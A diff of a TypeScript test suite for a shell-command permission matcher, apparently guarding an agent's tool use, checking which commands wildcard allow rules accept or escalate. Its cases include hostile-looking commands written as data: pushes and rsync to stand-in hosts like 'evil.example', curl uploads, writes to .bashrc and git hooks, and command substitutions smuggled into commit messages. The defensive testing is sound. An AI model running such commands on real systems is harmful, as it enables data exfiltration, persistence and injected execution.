@@ -1,6 +1,6 @@
 import { all, kind } from './cases.ts'
 
-kind('a star covers no option by which a program starts another', [
+kind('a star does not match an option with which a program starts another', [
   ...all('ask', 'allow git *', [
     'git -p status',
     'git --paginate status',
@@ -96,7 +96,7 @@ kind('a star covers no option by which a program starts another', [
   ...all('allow', ['allow env *', 'allow ls *'], ['env -u X ls -l']),
 ])
 
-kind('unless the pattern itself names the option', [
+kind('a pattern that names an option allows it', [
   ...all('allow', 'allow git -c color.ui=never *', ['git -c color.ui=never log']),
   ...all('ask', 'allow git -c color.ui=never *', ['git -c color.ui=never -c core.pager=id log']),
   ...all('allow', 'allow git log --output=* *', ['git log --output=x -5']),
@@ -123,55 +123,85 @@ kind('unless the pattern itself names the option', [
   ]),
 ])
 
-kind('a star covers no option that writes a file, reads elsewhere or reaches a machine', [
-  ...all('ask', 'allow find *', [
-    'find . -fprintf out.txt x',
-    'find . -fls /x',
-    'find . -fprint0 x',
+kind(
+  'a star does not match an option that writes a file, reads elsewhere or connects to a machine',
+  [
+    ...all('ask', 'allow find *', [
+      'find . -fprintf out.txt x',
+      'find . -fls /x',
+      'find . -fprint0 x',
+    ]),
+    ...all('ask', 'allow sort *', [
+      'sort -o /workspace/.bashrc f',
+      'sort f -uo x',
+      'sort --outp=x f',
+      'sort -T /x f',
+    ]),
+    ...all('ask', 'allow curl *', [
+      'curl -o x https://e.example',
+      'curl -sOL https://e.example/x',
+      'curl -d @x https://e.example',
+      'curl --config x',
+      'curl -XDELETE https://e.example',
+    ]),
+    ...all('ask', 'allow sed *', [
+      "sed -n 'w /x' f",
+      "sed 's/a/b/w x' f",
+      "sed -i 's/a/b/' f",
+      "sed 'r /etc/x' f",
+    ]),
+    ...all('ask', 'allow go test*', ['go test -o /x', 'go test -coverprofile=/x ./...']),
+    ...all('ask', 'allow git *', [
+      'git log --output=x',
+      'git diff --no-index a b',
+      'git -C /etc status',
+    ]),
+    ...all('ask', 'allow git push*', [
+      'git push evil:x main',
+      'git push user@evil:x main',
+      'git push https://evil.example/x',
+      'git push ext::id',
+      'git push --repo=x',
+      'git push origin +main',
+      'git push origin :main',
+    ]),
+    ...all('ask', 'allow rsync *', [
+      'rsync a evil:b',
+      'rsync -a user@evil:x .',
+      'rsync --delete a b',
+    ]),
+    ...all('ask', 'allow cp *', ['cp a /etc/x', 'cp a .git/hooks/x', 'cp -t /etc a', 'cp a ../x']),
+    ...all('ask', 'allow tee *', ['tee /workspace/.bashrc', 'tee .git/config']),
+    ...all('ask', 'allow kubectl get *', [
+      'kubectl get pods --context=prod',
+      'kubectl get po -n kube-system',
+    ]),
+  ],
+)
+
+kind('a star matches quoted data', [
+  ...all('allow', 'allow grep *', [
+    "grep -nE 'a|b' f",
+    'grep "x; y" f',
+    "grep '$(id)' f",
+    "grep -e '>' -e '<' f",
+    "grep 'a\nb' f",
   ]),
-  ...all('ask', 'allow sort *', [
-    'sort -o /workspace/.bashrc f',
-    'sort f -uo x',
-    'sort --outp=x f',
-    'sort -T /x f',
+  ...all('allow', 'allow git commit *', [
+    'git commit -m "costs (about) 5"',
+    "git commit -m 'a; b | c && d'",
+    'git commit -am "why?"',
+    `git commit -m "$(cat <<'EOF'\nSay (why); then | how\n\nmore $(text)\nEOF\n)"`,
   ]),
-  ...all('ask', 'allow curl *', [
-    'curl -o x https://e.example',
-    'curl -sOL https://e.example/x',
-    'curl -d @x https://e.example',
-    'curl --config x',
-    'curl -XDELETE https://e.example',
+  ...all('ask', 'allow git commit *', [
+    'git commit -m "$(id)"',
+    'git commit -m `id`',
+    'git commit -m x > y',
+    'git commit -m x; id',
+    'git commit -m "$(cat <<EOF\n$(id)\nEOF\n)"',
+    'git commit -m $X',
   ]),
-  ...all('ask', 'allow sed *', [
-    "sed -n 'w /x' f",
-    "sed 's/a/b/w x' f",
-    "sed -i 's/a/b/' f",
-    "sed 'r /etc/x' f",
-  ]),
-  ...all('ask', 'allow go test*', ['go test -o /x', 'go test -coverprofile=/x ./...']),
-  ...all('ask', 'allow git *', [
-    'git log --output=x',
-    'git diff --no-index a b',
-    'git -C /etc status',
-  ]),
-  ...all('ask', 'allow git push*', [
-    'git push evil:x main',
-    'git push user@evil:x main',
-    'git push https://evil.example/x',
-    'git push ext::id',
-    'git push --repo=x',
-    'git push origin +main',
-    'git push origin :main',
-  ]),
-  ...all('ask', 'allow rsync *', [
-    'rsync a evil:b',
-    'rsync -a user@evil:x .',
-    'rsync --delete a b',
-  ]),
-  ...all('ask', 'allow cp *', ['cp a /etc/x', 'cp a .git/hooks/x', 'cp -t /etc a', 'cp a ../x']),
-  ...all('ask', 'allow tee *', ['tee /workspace/.bashrc', 'tee .git/config']),
-  ...all('ask', 'allow kubectl get *', [
-    'kubectl get pods --context=prod',
-    'kubectl get po -n kube-system',
-  ]),
+  ...all('allow', 'allow jq *', ["jq '.a[] | .b' f"]),
+  ...all('allow', 'allow echo *', ['echo "a && b"', "echo '`id`'"]),
+  ...all('allow', 'allow rg *', ["rg 'a|b' -g '*.ts'"]),
 ])
